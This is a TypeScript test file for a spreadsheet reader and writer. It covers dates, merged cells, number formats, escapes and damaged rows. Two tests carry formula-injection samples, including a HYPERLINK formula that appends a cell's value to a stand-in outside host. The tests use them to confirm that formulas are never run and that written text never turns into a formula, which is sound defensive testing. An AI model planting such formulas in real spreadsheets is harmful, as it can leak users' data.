import assert from 'node:assert/strict';
import { buffer } from 'node:stream/consumers';
import { test } from 'vitest';
import type { Cell } from '@aarambh/kernel/ports/sheets.ts';
import { bookOf } from './made-by-excel.ts';
import XLSX from 'xlsx';
import { cellsOf, inline, partsOf, reading, readingHere, xlsxOf, zipOf } from './made.ts';

test('[I2] an xlsx as a spreadsheet writes it is read as its first visible sheet, row by row', async (t) => {
  const { readFile } = reading(t);
  const file = bookOf('xlsx', [
    { name: 'Old', rows: [['Hidden']], hidden: 1 },
    { name: 'Older', rows: [['Hidden well']], hidden: 2 },
    {
      name: 'Students',
      rows: [['Name', 'WhatsappNumber', null, 'Date'], [], ['आशा O’Brien', 9_876_543_210, null, 46_000.5], [true, null, '=1+1']],
      formats: { D3: 'dd-mm-yyyy', B3: '000000000000' },
    },
    { name: 'Next', rows: [['Not this']] },
  ]);
  const read = await readFile('xlsx', file);
  assert.deepEqual(read.outcome, {
    ok: true,
    about: { kind: 'xlsx', from1904: false, encoding: null, sheet: 'Students', others: ['Next'] },
  });
  assert.deepEqual(cellsOf(read), {
    1: ['Name', 'WhatsappNumber', null, 'Date'],
    3: ['आशा O’Brien', { number: 9_876_543_210, text: '009876543210' }, null, { number: 46_000.5, shown: 'date' }],
    4: [true, null, '=1+1'],
  });
});

test('[I2] days counted from 1904 are told as such, and a date that is written out counts in the same way', async () => {
  const { readFile } = readingHere();
  assert.equal((await readFile('xlsx', bookOf('xlsx', [{ name: 'A', rows: [['x']] }], true))).about?.from1904, true);
  assert.equal((await readFile('xlsx', bookOf('xlsx', [{ name: 'A', rows: [['x']] }]))).about?.from1904, false);
  const rows = '<row r="1"><c r="A1" t="d"><v>2026-11-24T12:00:00</v></c><c r="B1" t="d"><v>soon</v></c></row>';
  const [in1900, in1904] = [await readFile('xlsx', xlsxOf({ rows })), await readFile('xlsx', xlsxOf({ rows, from1904: true }))];
  assert.deepEqual(cellsOf(in1900)[1], [{ number: 46_350.5, shown: 'date' }, { error: '#VALUE!' }]);
  assert.deepEqual(cellsOf(in1904)[1]![0], { number: 46_350.5 - 1_462, shown: 'date' });
});

test('[I2] a formula is the value that was stored with it, and never run', async () => {
  const { readFile } = readingHere();
  const read = await readFile(
    'xlsx',
    xlsxOf({
      rows:
        '<row r="1"><c r="A1" t="str"><f>HYPERLINK("http://elsewhere.example/?"&amp;A2,"Asha")</f><v>Asha</v></c><c r="B1"><f>NOW()</f><v>46000</v></c>' +
        '<c r="C1"><f>1+1</f></c><c r="D1" t="e"><f>1/0</f><v>#DIV/0!</v></c></row>',
    }),
  );
  assert.deepEqual(cellsOf(read)[1], ['Asha', 46_000, { error: '#FORMULA' }, { error: '#DIV/0!' }]);
});

test('[I2] of merged cells only the first has the value, also where a file keeps others under it', async () => {
  const { readFile } = readingHere();
  const rows =
    '<row r="1"><c r="A1"><v>1</v></c><c r="B1"><v>2</v></c><c r="C1"><v>3</v></c></row>' +
    '<row r="2"><c r="A2"><v>4</v></c><c r="B2"><v>5</v></c><c r="C2"><v>6</v></c></row><row r="3"><c r="A3"><v>7</v></c><c r="B3"><v>8</v></c></row>';
  const merged = '<mergeCells><mergeCell ref="A1:B2"/><mergeCell ref="C2:C9"/><mergeCell ref="B3:XFD1048576"/></mergeCells>';
  assert.deepEqual(cellsOf(await readFile('xlsx', xlsxOf({ rows, behind: merged }))), { 1: [1, null, 3], 2: [null, null, 6], 3: [7, 8] });
  assert.deepEqual(cellsOf(await readFile('xlsx', xlsxOf({ rows })))[2], [4, 5, 6], 'control: without the ranges all are there');
  const excel = bookOf('xlsx', [
    {
      name: 'A',
      rows: [
        ['a', 'b'],
        ['c', 'd'],
      ],
      merges: ['A1:A2'],
    },
  ]);
  assert.deepEqual(cellsOf(await readFile('xlsx', excel)), { 1: ['a', 'b'], 2: [null, 'd'] });
});

test('[I2] texts are put together from their formatted pieces, and escapes stand for what XML cannot hold', async () => {
  const { readFile } = readingHere();
  const texts = [
    '<r><t>Asha </t></r><r><rPr><b/></rPr><t xml:space="preserve">Rao</t></r><rPh sb="0" eb="1"><t>spoken</t></rPh>',
    '<t>a_x0000_b_x000D_</t>',
    '<t>&lt;b&gt; &amp; &#233;</t>',
    '<t><![CDATA[<i>]]></t>',
    '<t>   </t>',
  ];
  const rows = `<row r="1">${['A', 'B', 'C', 'D', 'E'].map((letter, index) => `<c r="${letter}1" t="s"><v>${index}</v></c>`).join('')}</row>`;
  assert.deepEqual(cellsOf(await readFile('xlsx', xlsxOf({ rows, texts })))[1], ['Asha Rao', 'a\0b\r', '<b> & é', '<i>']);
});

/** What people see of 7, or of the number that stands beside it, by the code of the format; a date stays the number that it is counted by. */
const SEEN: readonly (readonly [code: string, seen: string | number | null, number?: number])[] = [
  ['General', 7],
  ['0', 7],
  ['@', 7],
  ['0000', '0007'],
  ['0000;[Red]-0000', '0007'],
  ['"CS"000', 'CS007'],
  ['\\C\\S000', 'CS007'],
  ['"CS"General', 'CS7'],
  ['[Blue]"X"0', 'X7'],
  ['[$CS-409]000', 'CS007'],
  ['"day" 0', 'day 7'],
  ['00-000-000', '21-001-007', 21_001_007],
  ['00-000-000', '121-001-007', 121_001_007],
  ['00"/"000', '21/007', 21_007],
  ['00\\/00\\/000', '21/01/007', 2_101_007],
  ['#\\ ###\\ ###', '1 234 567', 1_234_567],
  ['00000 00000', '98123 45601', 9_812_345_601],
  ['"+91 "00000-00000', '+91 98123-45601', 9_812_345_601],
  ['[<=9999999]###-####;(###) ###-####', '(981) 234-5601', 9_812_345_601],
  ['#,##0', '9,812,345,601', 9_812_345_601],
  ['[>=10000000]##\\,##\\,##\\,##0;[>=100000]##\\,##\\,##0;##,##0', '981,23,45,601', 9_812_345_601],
  ['[$₹-4009] #,##0.00', '₹ 1,001.00', 1_001],
  ['_(* #,##0_);_(* (#,##0);_(* "-"_);_(@_)', '1,001', 1_001],
  ['[Red]0.00', '7.00'],
  ['0%', '7%', 0.07],
  ['# ?/?', '1/2', 0.5],
  ['0.00E+00', 9_812_345_601, 9_812_345_601],
  ['##0.0E+0', 9_812_345_601, 9_812_345_601],
  [';;;', null],
  ['dd/mm/yyyy', 'date'],
  ['[h]:mm', 'date'],
  ['[$-F400]h:mm:ss AM/PM', 'date'],
  ['[$-409]d-mmm-yy;@', 'date'],
  ['\\d0', 'd7'],
];
const escapedXml = (code: string): string => code.replaceAll('"', '&quot;').replaceAll('<', '&lt;').replaceAll('>', '&gt;');
const cellSeen = (seen: string | number | null, number: number): Cell => {
  if (seen === 'date') return { number, shown: 'date' };
  return typeof seen === 'string' ? { number, text: seen } : seen;
};

test('[I2] a number is what its format shows of it, also in the old Excel; a date, a shortened number and one as it is stay numbers', async () => {
  const { readFile } = readingHere();
  const rows = SEEN.map(([, , number = 7], index) => `<row><c s="${index + 1}"><v>${number}</v></c><c><v>1</v></c></row>`).join('');
  const read = await readFile('xlsx', xlsxOf({ rows, formats: SEEN.map(([code]) => escapedXml(code)) }));
  const expected = SEEN.map(([code, seen, number = 7]) => [code, [cellSeen(seen, number), 1]]);
  assert.deepEqual(
    read.rows.map(({ cells }, index) => [SEEN[index]![0], cells]),
    expected,
  );
  const old = await readFile(
    'xls',
    bookOf('biff8', [
      {
        name: 'A',
        rows: SEEN.map(([, , number = 7]) => [number, 1]),
        formats: Object.fromEntries(SEEN.map(([code], index) => [`A${index + 1}`, code])),
      },
    ]),
  );
  assert.deepEqual(
    old.rows.map(({ cells }, index) => [SEEN[index]![0], cells]),
    expected,
  );
  const builtIn = [1, 2, 3, 4, 9, 10, 11, 12, 37, 49, 14, 22, 45].map((id, index) => ({
    format: `<xf numFmtId="${id}"/>`,
    cell: `<row><c s="${index}"><v>1001</v></c></row>`,
  }));
  const styles = `<styleSheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><cellXfs>${builtIn.map(({ format }) => format).join('')}</cellXfs></styleSheet>`;
  const parts = partsOf({ rows: builtIn.map(({ cell }) => cell).join('') }).map((part) =>
    part.name === 'xl/styles.xml' ? { ...part, bytes: styles } : part,
  );
  const seen = (await readFile('xlsx', zipOf(parts))).rows.map(({ cells: [cell = null] }) =>
    typeof cell === 'object' && cell !== null && 'text' in cell ? cell.text : typeof cell === 'object' ? 'date' : cell,
  );
  assert.deepEqual(seen, [
    1_001,
    '1001.00',
    '1,001',
    '1,001.00',
    '100100%',
    '100100.00%',
    1_001,
    1_001,
    '1,001',
    1_001,
    'date',
    'date',
    'date',
  ]);
});

test('[I2] rows and cells without a place follow each other; those out of order are damage', async () => {
  const { readFile, refusal } = readingHere();
  const unplaced = '<row><c><v>1</v></c><c r="C1"><v>3</v></c></row><row r="5"><c><v>5</v></c></row>';
  assert.deepEqual(cellsOf(await readFile('xlsx', xlsxOf({ rows: unplaced }))), { 1: [1, null, 3], 5: [5] });
  for (const rows of [
    '<row r="2"><c><v>1</v></c></row><row r="2"><c><v>1</v></c></row>',
    '<row r="2"><c><v>1</v></c></row><row r="1"><c><v>1</v></c></row>',
    '<row r="1"><c r="B1"><v>1</v></c><c r="A1"><v>1</v></c></row>',
    '<row r="1"><c r="A2"><v>1</v></c></row>',
    '<row r="1"><c r="A1" t="s"><v>7</v></c></row>',
    '<row r="0"><c><v>1</v></c></row>',
    '<row r="1048577"><c><v>1</v></c></row>',
  ])
    assert.equal(await refusal('xlsx', xlsxOf({ rows })), 'sheet_damaged', rows);
});

test('[I2] what is written is read again as it was, and no text becomes a formula', async (t) => {
  const { write, readFile } = reading(t);
  const headings = ['Name', '=HYPERLINK("http://elsewhere.example")', '+91 98', '<&"> _x0041_', "@it's"];
  const rows = [
    [null, 1.5, ' a\n\tb ', 'a\r\u00e9\u{1f393}'],
    ['last', null, 7],
  ];
  const file = await buffer(
    write([
      { name: 'Refused & "more"', headings, pages: rows.map((row) => [row]) },
      { name: 'Help', headings: ['x'], pages: [[['\0\ud800\ufffe']]] },
    ]),
  );
  const read = await readFile('xlsx', file);
  assert.deepEqual(cellsOf(read), { 1: headings, 2: rows[0], 3: rows[1] });
  assert.deepEqual(cellsOf(await readFile('xlsx', xlsxOf({ rows: `<row>${inline('A1', 'x')}</row>` }))), { 1: ['x'] });
});

test('[I2] columns of text are formatted as such, in their cells and below, and others are not', async (t) => {
  const { write } = reading(t);
  const sheet = { name: 'A', headings: ['Name', 'Roll No', 'Date'], texts: ['Roll No'], pages: [[['Asha', '007', null]]] };
  const book = XLSX.read(await buffer(write([sheet, { ...sheet, name: 'B', texts: [] }])), {
    bookFiles: true,
    cellNF: true,
    sheetStubs: true,
  }) as XLSX.WorkBook & {
    readonly files: Readonly<Record<string, { readonly content: Uint8Array }>>;
  };
  const formats = (name: string): (string | undefined)[] =>
    ['A2', 'B2', 'C2'].map((place) => (book.Sheets[name]![place] as { z?: string }).z);
  assert.deepEqual(formats('A'), ['General', '@', 'General']);
  assert.deepEqual(formats('B'), ['General', 'General', 'General']);
  const written = Buffer.from(book.files['xl/worksheets/sheet1.xml']!.content).toString();
  assert.deepEqual(
    Array.from(written.matchAll(/<col [^>]*>/g), ([column]) => column.includes('style="1"')),
    [false, true, false],
  );
});
